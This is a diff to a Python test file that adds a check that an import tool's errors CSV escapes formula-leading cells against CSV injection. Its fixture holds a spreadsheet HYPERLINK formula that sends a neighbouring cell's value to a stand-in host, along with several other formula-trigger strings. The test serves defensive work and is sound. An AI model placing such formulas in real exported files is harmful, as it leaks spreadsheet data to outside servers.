@@ -4,6 +4,7 @@ problem, never a 500, and never after unpacking or holding more than the import'
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import random
@@ -14,10 +15,12 @@ from typing import IO
 
 import pytest
 
+from bufdir_reporting.auth import SYSTEM
 from bufdir_reporting.cli import CommandError, import_activities
-from bufdir_reporting.importing import limits, reading, xlsx_guard
+from bufdir_reporting.importing import import_file, limits, reading, write_errors, xlsx_guard
 from bufdir_reporting.importing.errors import ImportFileError
 from bufdir_reporting.models import Activity, ActivityImport, Organization, OrganizationKind
+from bufdir_reporting.resolvers.base.context import Context
 
 from .conftest import error_of
 
@@ -447,6 +450,30 @@ async def test_an_upload_names_its_sheet_within_the_column(client, own):
     named = await client.post(BASE, content=body, headers=multipart)
     assert named.status_code == 201, named.text
     assert named.json()["filename"] == "a␀b.csv"
+
+
+@pytest.mark.one_database
+async def test_the_errors_file_holds_the_files_texts_as_inert_cells(settings, tmp_path):
+    """``import --errors`` writes refused values back out: one starting a formula gets a leading
+    apostrophe (OWASP, "CSV injection"), the rest as written."""
+    formula = '=HYPERLINK("http://example.invalid/?"&B5,"Se vedlegg")'
+    row = {**dict(zip(HEADER.split(","), ROW.split(","), strict=True)), "occurred_at": "2024-03-15T10:30:00"}
+    lines = [
+        {**row, "category": formula},
+        {**row, "external_id": "x-2", "participant_count": "-5", "status": "@SUM(1)", "location": "\tTromsø"},
+        {**row, "external_id": "x-3", "+cmd": "1", "hours": "=1+1"},
+    ]
+    path = tmp_path / "a.jsonl"
+    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    report = await import_file(Context(settings=settings, principal=SYSTEM), path, dry_run=True)
+    errors_file = tmp_path / "errors.csv"
+    write_errors(report.errors, errors_file)
+    with errors_file.open(encoding="utf-8-sig", newline="") as handle:
+        written = {(cells[0], cells[1]): cells[2] for cells in list(csv.reader(handle))[1:]}
+    assert written[("1", "category")] == "'" + formula
+    assert (written[("2", "participant_count")], written[("2", "status")]) == ("'-5", "'@SUM(1)")
+    assert (written[("3", "'+cmd")], written[("3", "hours")]) == ("1", "'=1+1")
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in written.values())
 
 
 def test_rows_under_a_header_spread_to_column_xfd_are_read_by_their_named_columns(tmp_path, monkeypatch):
